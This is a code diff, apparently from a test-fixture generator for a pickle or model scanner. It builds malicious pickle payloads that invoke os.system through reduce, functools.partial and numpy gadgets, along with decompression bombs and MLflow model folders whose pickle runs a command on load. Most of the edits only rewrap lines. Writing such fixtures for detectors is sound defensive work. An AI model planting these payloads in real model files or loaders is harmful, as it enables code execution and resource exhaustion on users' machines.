@@ -109,7 +109,7 @@ def pickles(command: str) -> dict[str, bytes]:
     call = b"cos\nsystem\n(S" + quoted + b"\ntR"
     wrapped = text(command) + b"\x85R"
     scaler = StandardScaler().fit([[0.0], [1.0]])
-    name = f"open({command.split()[-1]!r}, 'w')"
+    name = f"open({command.rsplit(maxsplit=1)[-1]!r}, 'w')"
     inner = pickle.dumps(evil, 2)
     made = {f"reduce-protocol-{p}": pickle.dumps(evil, p) for p in range(6)}
     made |= {
@@ -189,7 +189,8 @@ def pickles(command: str) -> dict[str, bytes]:
         "partial-called": b"cfunctools\npartial\n(cos\nsystem\nS" + quoted + b"\ntR)R.",
         "reconstructor-of-a-value": b"ccopyreg\n_reconstructor\n(cbuiltins\nobject\nctypes\n"
         b"SimpleNamespace\n)RNtR.",
-        "generator-constructor": b"cnumpy.random._pickle\n__generator_ctor\n(S'x'\ncos\nsystem\ntR.",
+        "generator-constructor": b"cnumpy.random._pickle\n__generator_ctor\n(S'x'\ncos\nsystem\n"
+        b"tR.",
         "ufunc-by-name": b"cnumpy.core\n_ufunc_reconstruct\n(S'os'\nS'system'\ntR.",
         "makes-a-class": b"cbuiltins\ntype\n(S'C'\n(t}tR.",
         "logging-handlers": b"\x80\x02clogging\ngetLogger\n)R}" + text("handlers") + b"]sb.",
@@ -328,7 +329,9 @@ def bombs() -> dict[str, bytes]:
         "bz2-bomb": bz2.compress(b"\x80\x02" + b"N0" * 5_000_000, 1),
         "zlib-bomb-of-tuples": zlib.compress(b"N" + b"\x85" * 40_000_000, 1),
         "zf-that-lies": b"ZF" + hex(1 << 60).encode().ljust(19) + zlib.compress(b"N."),
-        "nested-zlib-bomb": pickle.dumps({"raw": zlib.compress(b"\x80\x02" + bytes(60_000_000))}, 4),
+        "nested-zlib-bomb": pickle.dumps(
+            {"raw": zlib.compress(b"\x80\x02" + bytes(60_000_000))}, 4
+        ),
         "memo-far-apart": b"\x80\x02"
         + b"".join(b"Nr" + struct.pack("<I", i * 1000 + 5) for i in range(100_000))
         + b".",
@@ -342,7 +345,9 @@ def _dtypes() -> bytes:
     for i in range(60):
         field = b"h" + bytes([i + 1]) + b"K\x00\x86"
         made += b"0h\x00" + text("V8") + b"K\x00K\x01\x87R(K\x03" + text("|") + b"N" + text("a")
-        made += text("b") + b"\x86}(" + text("a") + field + text("b") + field + b"uK\x08K\x01K\x10tb"
+        made += (
+            text("b") + b"\x86}(" + text("a") + field + text("b") + field + b"uK\x08K\x01K\x10tb"
+        )
         made += b"q" + bytes([i + 2])
     return made + b"."
 
@@ -389,7 +394,9 @@ def _folders(folder: Path, command: str) -> dict[str, Path]:
                          "odule: evil"), ("mlflow-code", "code: code")):  # fmt: skip
         place = made[name] = folder / name
         place.mkdir(exist_ok=True)
-        text_ = f"flavors:\n  python_function:\n    {flavor}\n  sklearn:\n    pickled_model: m.pkl\n"
+        text_ = (
+            f"flavors:\n  python_function:\n    {flavor}\n  sklearn:\n    pickled_model: m.pkl\n"
+        )
         (place / "MLmodel").write_text(text_)
         good = StandardScaler().fit([[0.0], [1.0]])
         (place / "m.pkl").write_bytes(pickle.dumps(Evil(command) if name == "mlflow" else good))
